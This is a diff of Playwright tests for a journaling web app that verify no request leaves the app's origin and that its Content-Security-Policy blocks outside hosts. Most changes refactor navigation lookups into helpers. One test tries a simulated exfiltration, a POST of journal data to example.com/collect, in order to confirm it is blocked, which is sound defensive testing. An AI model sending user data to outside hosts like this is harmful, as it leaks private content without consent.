@@ -1,8 +1,9 @@
 // Nothing leaves the machine: during a session that visits every view, every request
 // the page makes must go to the app's own origin.
 import { expect, test, type Request } from '@playwright/test'
+import { mainNav, navButton, type View } from './support/app'
 
-const VIEWS = ['Journal', 'Readiness', 'Bullets', 'Review', 'Settings']
+const VIEWS: View[] = ['Journal', 'Readiness', 'Bullets', 'Review', 'Settings']
 /** Schemes that never touch the network. */
 const LOCAL_SCHEMES = new Set(['data:', 'blob:', 'about:'])
 
@@ -19,7 +20,6 @@ test('a session through every view makes no request outside the app origin', asy
   page.on('websocket', (socket) => sockets.push(socket.url()))
 
   await page.goto('/')
-  const nav = page.getByRole('navigation', { name: 'Main' })
   await expect(page.getByRole('main')).toBeVisible()
   await page.waitForLoadState('networkidle')
   // With entries every view draws its charts, bullets and review; the journal offers
@@ -30,7 +30,7 @@ test('a session through every view makes no request outside the app origin', asy
     await expect(sample).toBeHidden()
   }
   for (const view of [...VIEWS, ...VIEWS.slice().reverse()]) {
-    const button = nav.getByRole('button', { name: view, exact: true })
+    const button = navButton(page, view)
     await button.click()
     await expect(button).toHaveAttribute('aria-current', 'page')
     await expect(page.getByRole('main')).toBeVisible()
@@ -43,7 +43,7 @@ test('a session through every view makes no request outside the app origin', asy
   }
   // Reload once: a second start (database already there) must stay local too.
   await page.reload()
-  await expect(nav.getByRole('button', { name: 'Journal', exact: true })).toBeVisible()
+  await expect(navButton(page, 'Journal')).toBeVisible()
   await page.waitForLoadState('networkidle')
 
   const outside = requests.filter((raw) => {
@@ -59,7 +59,7 @@ test('the page itself cannot reach another host (Content-Security-Policy)', asyn
   const requests: string[] = []
   page.on('request', (request) => requests.push(request.url()))
   await page.goto('/')
-  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible()
+  await expect(mainNav(page)).toBeVisible()
   const outcome = await page.evaluate(() =>
     fetch('https://example.com/collect', { method: 'POST', body: 'journal' }).then(
       () => 'sent',
